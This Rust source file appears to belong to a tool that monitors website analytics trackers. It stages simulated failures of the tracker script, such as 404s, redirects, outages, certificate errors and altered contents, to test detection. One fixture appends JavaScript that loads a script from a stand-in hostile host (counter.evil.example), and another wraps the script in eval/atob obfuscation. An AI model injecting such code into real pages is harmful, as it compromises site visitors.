//! The breakages of the script that pages load: gone, replaced, older, altered, moved.

use super::{Breakage, Class, Outage, Right, Scene, Staged, Subject};
use crate::analytics::exchange::Reply;
use crate::analytics::script::lex;
use crate::analytics::{self, Sign};
use crate::verdict::GuardLevel::L1;

const fn drift(
    name: &'static str,
    like: &'static [u8],
    story: &'static str,
    stage: fn(&mut Scene) -> Staged,
) -> Breakage {
    Breakage { name, class: Class::Tracker, story, like, right: Right::Drift, stage }
}

const fn unknown(name: &'static str, story: &'static str, stage: fn(&mut Scene) -> Staged) -> Breakage {
    Breakage { name, class: Class::Tracker, story, like: &[], right: Right::Unknown, stage }
}

pub(super) const BREAKAGES: &[Breakage] = &[
    drift("tracker-gone", &[7, 8], "an upgrade renames the script: 404", |scene| status(scene, 404, "Not found")),
    drift("tracker-forbidden", &[7, 33], "a firewall refuses the script: 403", |scene| status(scene, 403, "Forbidden")),
    drift("tracker-is-a-login-page", &[31], "the address answers 200 with a login page", |scene| {
        page(
            scene,
            "<!doctype html><html><head><title>Sign in</title></head><body><form><input type=password></form></body></html>",
        )
    }),
    drift(
        "tracker-is-the-app-s-fallback",
        &[31],
        "a single-page application answers every address with its own page",
        |scene| {
            page(
                scene,
                "<!doctype html><html><head><title>Stats</title></head><body><div id=app></div><script src=/app.js></script></body></html>",
            )
        },
    ),
    drift(
        "tracker-is-a-page-called-javascript",
        &[31],
        "a maintenance page under the script's content type",
        |scene| body(scene, "<html><body>Down for maintenance</body></html>"),
    ),
    drift("tracker-is-empty", &[31], "200, and nothing in it", |scene| body(scene, "")),
    drift("tracker-is-a-comment", &[31], "a proxy hides its error in a comment", |scene| {
        body(scene, "/* the origin could not be reached */")
    }),
    drift("tracker-is-json", &[31], "an API answers where the script was", |scene| {
        body(scene, "{\"error\":\"not found\"}")
    }),
    drift("tracker-is-another-script", &[31], "valid JavaScript that is no tracker", |scene| {
        body(scene, "(function(){var menu=document.querySelector('nav');if(menu){menu.hidden=false}})();")
    }),
    drift("tracker-altered", &[38], "somebody adds a line to the script, the version is what it was", |scene| {
        if (scene.provider.tracker.class)(&scene.target.script) == analytics::Class::Volatile {
            return Staged::Pointless("its vendor changes the bytes at will, so that nobody compares them");
        }
        edit(scene, |text| format!("{text}\n;window.__extra=1;"))
    }),
    drift("tracker-loads-a-stranger", &[38], "a line in the middle loads a script from another host", |scene| {
        edit(scene, |text| {
            format!(
                "{text}\n;(function(){{var s=document.createElement('script');s.src='https://counter.evil.example/x.js';document.head.appendChild(s)}})();"
            )
        })
    }),
    drift("tracker-redirects-away", &[10], "the script's address redirects to another host", |scene| {
        scene.fault(|subject, request, reply| {
            if subject != Subject::Tracker || request.url.host_str() == Some("parked.example") {
                return reply;
            }
            let mut moved = reply?;
            moved.status = 302;
            moved.body.clear();
            moved.headers.insert("location".to_owned(), "https://parked.example/tracker.js".to_owned());
            Ok(moved)
        });
        Staged::At(L1)
    }),
    drift(
        "tracker-redirects-to-http",
        &[10, 37],
        "the script's address redirects to an address that is not encrypted",
        |scene| {
            scene.answer(Subject::Tracker, |mut reply| {
                reply.status = 301;
                reply.headers.insert("location".to_owned(), "http://stats.other.example/t.js".to_owned());
                Ok(reply)
            });
            Staged::At(L1)
        },
    ),
    drift("tracker-redirects-in-a-circle", &[10], "the script's address redirects to itself", |scene| {
        scene.answer(Subject::Tracker, |mut reply| {
            reply.status = 302;
            let here = reply.url.clone();
            reply.headers.insert("location".to_owned(), here);
            Ok(reply)
        });
        Staged::At(L1)
    }),
    drift("tracker-s-host-gone", &[10], "the name of the script's host no longer exists", |scene| {
        outage(scene, Outage::NoSuchName)
    }),
    drift("tracker-s-certificate-expired", &[36], "the certificate has expired: browsers load nothing", |scene| {
        outage(scene, Outage::Certificate)
    }),
    drift(
        "tracker-too-old",
        &[1],
        "the server's tracker does not know what the snippet says: the story of 2011",
        |scene| forget(scene, ""),
    ),
    drift(
        "tracker-knows-it-in-a-comment",
        &[1],
        "the tracker only mentions in a comment what the snippet says",
        |scene| forget(scene, "/* newer versions understand: "),
    ),
    drift(
        "tracker-too-old-at-first-sight",
        &[1],
        "a new blog is set up against a server that is years behind",
        |scene| {
            scene.first_sight = true;
            forget(scene, "")
        },
    ),
    drift(
        "another-script-at-first-sight",
        &[31],
        "a new blog is given some other script, which knows the same words",
        |scene| {
            let names = scene.provider.commands.iter().map(|name| {
                name.replace(|character: char| !character.is_ascii_alphanumeric() && character != '_', "_")
            });
            let text = format!("var {};navigator.sendBeacon('/');", names.collect::<Vec<_>>().join(","));
            if scene.provider.tracker.markers.iter().all(|row| row.iter().any(|marker| text.contains(marker))) {
                return Staged::Pointless("its tracker is known by words that its snippet says too");
            }
            scene.first_sight = true;
            scene.answer(Subject::Tracker, move |reply| Ok(Reply { body: text.clone().into_bytes(), ..reply }));
            Staged::At(L1)
        },
    ),
    drift(
        "page-view-before-the-address",
        &[3],
        "the snippet sends before it says where to, and an old tracker obeys at once",
        |scene| {
            scene.first_sight = true;
            let view = "_paq.push([\"trackPageView\"]);";
            let swapped = scene.change_all(|snippet| match snippet.find("_paq.push(") {
                Some(first) if snippet.contains(view) => {
                    let without = snippet.replace(view, "");
                    format!("{}{view}{}", &without[..first], &without[first..])
                }
                _ => snippet.to_owned(),
            });
            if !swapped {
                return Staged::Pointless("its snippet is no queue of commands");
            }
            edit(scene, |text| text.replace("'setTrackerUrl'", "'later'"))
        },
    ),
    drift("tracker-became-a-module", &[15], "a new release of the script is a module, and the tag is none", |scene| {
        let is_module = |html: &str| scene.snippet_in(html).is_some_and(|span| html[span].contains("\"module\""));
        if scene.pages.values().any(|page| is_module(&page.html)) {
            return Staged::Pointless("its script is a module already");
        }
        scene.first_sight = true;
        edit(scene, |text| format!("{text}\nexport {{}};"))
    }),
    drift(
        "tracker-built-for-another-server",
        &[10],
        "the script has the counting address of another installation in it",
        |scene| {
            let path = scene.target.collect.path().to_owned();
            let tracker = scene.provider.stand_in.tracker;
            if (scene.provider.compiled)(&lex(tracker)).endpoint.is_none() || !tracker.contains(&path) {
                return Staged::Pointless("its script has no address of its own in it");
            }
            scene.first_sight = true;
            scene.answer(Subject::Tracker, move |reply| {
                let body = reply.text().replace(&path, "/api/elsewhere").into_bytes();
                Ok(Reply { body, ..reply })
            });
            Staged::At(L1)
        },
    ),
    Breakage {
        name: "tracker-packed",
        class: Class::Tracker,
        story: "the script is packed, so that nobody can read in it what it understands",
        like: &[],
        right: Right::Either,
        stage: |scene| {
            edit(scene, |text| {
                format!("eval(atob(\"{}\"))", text.bytes().map(|byte| char::from(b'A' + byte % 26)).collect::<String>())
            })
        },
    },
    unknown("tracker-cut-short", "the answer stops in the middle", |scene| outage(scene, Outage::Truncated)),
    unknown("server-refuses", "the server is down", |scene| outage(scene, Outage::Refused)),
    unknown("server-is-silent", "the server takes the request and never answers", |scene| {
        outage(scene, Outage::Silent)
    }),
    unknown("server-in-trouble", "the server answers 500", |scene| passing(scene, 500)),
    unknown("server-in-maintenance", "the server answers 503 with a page", |scene| passing(scene, 503)),
    unknown("server-turns-away", "the server answers 429", |scene| passing(scene, 429)),
    unknown("bot-challenge", "a shield asks us to prove that we are no robot", |scene| {
        scene.answer(Subject::Tracker, |mut reply| {
            reply.status = 403;
            reply.headers.insert("cf-mitigated".to_owned(), "challenge".to_owned());
            reply.body = b"<!doctype html><title>Just a moment</title>".to_vec();
            Ok(reply)
        });
        Staged::At(L1)
    }),
];

fn status(scene: &mut Scene, status: u16, text: &'static str) -> Staged {
    scene.answer(Subject::Tracker, move |reply| Ok(Reply { status, body: text.into(), ..reply }));
    Staged::At(L1)
}

fn passing(scene: &mut Scene, status: u16) -> Staged {
    scene.fault(move |_, _, reply| Ok(Reply { status, body: b"<h1>Try again later</h1>".to_vec(), ..reply? }));
    Staged::At(L1)
}

fn page(scene: &mut Scene, html: &'static str) -> Staged {
    scene.answer(Subject::Tracker, move |mut reply| {
        reply.headers.insert("content-type".to_owned(), "text/html; charset=utf-8".to_owned());
        Ok(Reply { body: html.into(), ..reply })
    });
    Staged::At(L1)
}

fn body(scene: &mut Scene, text: &'static str) -> Staged {
    scene.answer(Subject::Tracker, move |reply| Ok(Reply { body: text.into(), ..reply }));
    Staged::At(L1)
}

fn edit(scene: &mut Scene, change: fn(&str) -> String) -> Staged {
    scene.answer(Subject::Tracker, move |reply| {
        let body = change(&reply.text()).into_bytes();
        Ok(Reply { body, ..reply })
    });
    Staged::At(L1)
}

fn outage(scene: &mut Scene, outage: Outage) -> Staged {
    scene.fault(move |subject, _, reply| match subject {
        Subject::Tracker => Err(outage),
        Subject::Version | Subject::Collect => reply,
    });
    Staged::At(L1)
}

/// Lets the tracker forget the first command of the snippet, whatever else it knows.
fn forget(scene: &mut Scene, mention: &'static str) -> Staged {
    let provider = scene.provider;
    let printed = analytics::snippet(&scene.table, None);
    let Some(command) = provider.commands.iter().copied().find(|command| printed.contains(*command)) else {
        return Staged::Pointless("the snippet gives no command");
    };
    let mut names = Vec::new();
    for sign in (provider.signs)(command) {
        match sign {
            Sign::Name(name) | Sign::Text(name) => names.push(name.into_owned()),
            Sign::Members(members) | Sign::Path(members) => names.extend(members.last().map(|name| (*name).to_owned())),
        }
    }
    scene.answer(Subject::Tracker, move |reply| {
        let mut text = reply.text();
        for name in &names {
            text = text.replace(name.as_str(), &name.chars().rev().collect::<String>());
        }
        if !mention.is_empty() {
            text = format!("{mention}{} */\n{text}", names.join(", "));
        }
        Ok(Reply { body: text.into_bytes(), ..reply })
    });
    Staged::At(L1)
}
